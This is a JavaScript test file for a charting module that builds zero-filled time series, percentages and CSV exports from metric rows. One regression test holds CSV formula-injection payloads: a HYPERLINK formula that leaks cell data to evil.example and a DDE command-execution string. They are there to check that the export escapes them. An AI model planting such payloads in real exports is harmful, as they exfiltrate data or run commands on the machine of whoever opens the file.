// ui/js/series.js: rows to zero-filled series, percentages, CSV.
import test from 'node:test';
import assert from 'node:assert/strict';
import { toSeries, percentages, toCsv, buckets } from '../ui/js/series.js';

const iso = (s) => new Date(s * 1000).toISOString().replace('.000Z', 'Z');

test('missing buckets are zeros, Other is last, totals stay in the measure', () => {
  const rows = [
    { t: iso(60), rest: false, d0: 'a', value: 120 }, { t: iso(120), rest: false, d0: 'a', value: 60 },
    { t: iso(60), rest: true, d0: null, value: 6000 }, { t: iso(180), rest: false, d0: 'b', value: 600 },
    { t: iso(9999), rest: false, d0: 'a', value: 1 },
  ];
  const { times, series } = toSeries(rows, { from: 60, to: 240, stepSecs: 60, unit: 'rate' });
  assert.deepEqual(times, [60, 120, 180]);
  assert.deepEqual(series.map((s) => s.name), ['b', 'a', 'Other']);
  assert.deepEqual(series[1].raw, [120, 60, 0]);
  assert.deepEqual(series[1].values, [2, 1, 0]);
  assert.equal(series[1].stats.total, 180);
  assert.equal(series[1].stats.max, 2);
  assert.equal(series[0].stats.last, 10);
});

test('percentages sum to 100 per bucket with traffic', () => {
  const p = percentages([{ name: 'a', values: [1, 0] }, { name: 'b', values: [3, 0] }]);
  assert.deepEqual(p.map((s) => s.values), [[25, 0], [75, 0]]);
});

test('an app named Other, (unknown) or the empty string is its own series, quoted', () => {
  // Regression (cold review of e03ca99): an app named "Other" was folded
  // into the top-N remainder, and "(unknown)" into the missing values.
  const rows = [
    { t: iso(60), rest: false, d0: 'Other', d1: 'db', value: 5 },
    { t: iso(60), rest: false, d0: null, d1: 'db', value: 4 },
    { t: iso(60), rest: false, d0: '(unknown)', d1: 'db', value: 3 },
    { t: iso(60), rest: false, d0: '', d1: 'db', value: 2 },
    { t: iso(60), rest: true, d0: null, d1: null, value: 1 },
  ];
  const { series } = toSeries(rows, { from: 60, to: 120, stepSecs: 60, unit: 'total', dims: 2 });
  assert.deepEqual(series.map((s) => s.name), ["'Other' · db", '(unknown) · db', "'(unknown)' · db", "'' · db", 'Other']);
  assert.deepEqual(series.map((s) => s.parts), [['Other', 'db'], [null, 'db'], ['(unknown)', 'db'], ['', 'db'], []]);
  assert.equal(new Set(series.map((s) => s.key)).size, 5);
  assert.deepEqual(series.map((s) => s.rest), [false, false, false, false, true]);
});

test('CSV export keeps formulas from data as text', () => {
  // Regression (cold review of e03ca99): series names are app names from
  // metadata and tags; a spreadsheet ran =HYPERLINK(…) from the export.
  const names = ['=HYPERLINK("http://evil.example/?x="&A2,"open")', "+1+cmd|' /C calc'!A0", '@SUM(1+1)', '-2', 'web'];
  const csv = toCsv({ times: [0], series: names.map((name) => ({ name, values: [1] })) });
  const cells = csv.split('\n')[0].match(/("([^"]|"")*"|[^,]*)(,|$)/g)
    .map((c) => c.replace(/,$/, '').replace(/^"|"$/g, '').replaceAll('""', '"')).filter((c) => c !== '');
  assert.deepEqual(cells.slice(1), names.map((n) => (n === 'web' ? n : `'${n}`)));
});

test('CSV quotes names with commas', () => {
  const csv = toCsv({ times: [0], series: [{ name: 'a,b', values: [1] }] });
  assert.equal(csv, 'time,"a,b"\n1970-01-01T00:00:00.000Z,1\n');
  assert.deepEqual(buckets(61, 180, 60), [60, 120]);
});
